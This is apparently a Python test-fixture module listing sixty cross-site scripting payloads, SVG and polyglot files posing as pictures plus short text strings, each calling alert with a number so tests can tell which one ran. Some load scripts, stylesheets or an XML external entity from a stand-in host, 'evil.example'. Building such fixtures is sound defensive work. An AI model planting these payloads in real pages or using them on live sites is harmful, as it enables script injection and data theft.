"""Sixty payloads that would run in a browser, or call out of it, wherever one of them was taken for markup or code.

Each calls `alert` with its own number where it can, so that a test can tell that it ran, and which.
"""

from __future__ import annotations

_EVIL = "//evil.example"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"'


def _foreign(html: str) -> str:
    """Put HTML into an SVG."""
    body = f'<body xmlns="http://www.w3.org/1999/xhtml">{html}</body>'
    return f"{_SVG}><foreignObject width='64' height='64'>{body}</foreignObject></svg>"


PICTURES: tuple[bytes, ...] = tuple(
    text.encode()
    for text in (
        f"{_SVG}><script>alert(1)</script></svg>",
        f'{_SVG} onload="alert(2)"/>',
        f'{_SVG}><script xlink:href="http:{_EVIL}/3.js"/></svg>',
        f'{_SVG}><script href="data:text/javascript,alert(4)"/></svg>',
        _foreign("<script>alert(5)</script>"),
        _foreign("<img src='x' onerror='alert(6)'/>"),
        _foreign("<iframe src='javascript:alert(7)'/>"),
        _foreign("<iframe srcdoc='&lt;script>alert(8)&lt;/script>'/>"),
        _foreign(f"<object data='http:{_EVIL}/9'/>"),
        _foreign(f"<form action='http:{_EVIL}/10'><input autofocus='' onfocus='alert(10)'/></form>"),
        (
            f'{_SVG}><rect width="9" height="9"><animate attributeName="x" dur="1s" onbegin="alert(11)"/>'
            f"</rect></svg>"
        ),
        f'{_SVG}><rect width="9" height="9"><set attributeName="x" to="1" onbegin="alert(12)"/></rect></svg>',
        (
            f'{_SVG}><a><rect width="64" height="64"/><animate attributeName="href" values="javascript:alert(13)"/>'
            f"</a></svg>"
        ),
        f'{_SVG}><image href="http:{_EVIL}/14.png" width="9" height="9" onerror="alert(14)"/></svg>',
        f'{_SVG}><use href="http:{_EVIL}/15.svg#x"/></svg>',
        (
            f'{_SVG}><use href="data:image/svg+xml,&lt;svg id=&apos;x&apos; onload=&apos;alert(16)&apos;/>'
            f'#x"/></svg>'
        ),
        (
            f"{_SVG}><style>@import 'http:{_EVIL}/17.css'; rect {{ fill: url(http:{_EVIL}/17.svg#x) }}</style>"
            f"<rect width='9' height='9'/></svg>"
        ),
        (
            f"{_SVG}><feImage href='http:{_EVIL}/18.png'/><filter id='f'><feImage href='http:{_EVIL}/18.png'/>"
            f"</filter><rect filter='url(#f)' width='9' height='9'/></svg>"
        ),
        (
            f'<?xml version="1.0"?><?xml-stylesheet href="http:{_EVIL}/19.css"?>'
            f"{_SVG}><script>alert(19)</script></svg>"
        ),
        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http:{_EVIL}/20.xsl"?>{_SVG}/>',
        (
            f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "http:{_EVIL}/21">'
            f"]>{_SVG}><text>&x;</text></svg>"
        ),
        (
            f'{_SVG}><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">'
            f'alert(22)</handler><animate onend="alert(22)" attributeName="x" dur="1ms"/></svg>'
        ),
        "GIF89a/*<script>alert(23)</script><svg onload=alert(23)>*/=1;alert(23)//",
        "<!DOCTYPE html><html><script>alert(24)</script><img src=x onerror=alert(24)></html>",
    )
)
"""24 files that say that they are pictures."""

TEXTS: tuple[str, ...] = (
    "<script>alert(25)</script>",
    "<img src=x onerror=alert(26)>",
    "<svg onload=alert(27)>",
    "</title><script>alert(28)</script>",
    "</h1></textarea><svg/onload=alert(29)>",
    '"><script>alert(30)</script>',
    "'><img src=x onerror=alert(31)>",
    '" autofocus onfocus=alert(32) x="',
    "' autofocus onfocus=alert(33) x='",
    '" onmouseover=alert(34) style=position:fixed ',
    "javascript:alert(35)",
    "data:text/html,<script>alert(36)</script>",
    "</script><script>alert(37)</script>",
    "--><script>alert(38)</script><!--",
    "]]><script>alert(39)</script>",
    "<!--<script>alert(40)</script>",
    "<iframe src=javascript:alert(41)>",
    "<iframe srcdoc='<script>alert(42)</script>'>",
    f"<base href=http:{_EVIL}/>",
    f"<link rel=stylesheet href={_EVIL}/44.css>",
    f"<meta http-equiv=refresh content=0;url={_EVIL}>",
    f"<img src={_EVIL}/46.png>",
    f"<form action={_EVIL}><button autofocus>47",
    "<details open ontoggle=alert(48)>",
    "<video><source onerror=alert(49)>",
    "<math><mtext><script>alert(50)</script>",
    "<template><script>alert(51)</script></template>",
    "<noscript><p title='</noscript><svg onload=alert(52)>'>",
    "{{constructor.constructor('alert(53)')()}}",
    "{% raw %}<svg onload=alert(54)>",
    "${alert(55)}`;alert(55)//",
    '","x":alert(56)};alert(56)//',
    "\\u003cscript\\u003ealert(57)\\u003c/script\\u003e",
    "&lt;script&gt;alert(58)&lt;/script&gt;",
    "<scr\u0000ipt>alert(59)</scr\u0000ipt>",
    "\u202e<svg onload=alert(60)>\u2028",
)
"""36 texts of at most 64 characters, as somebody types or a model answers them."""
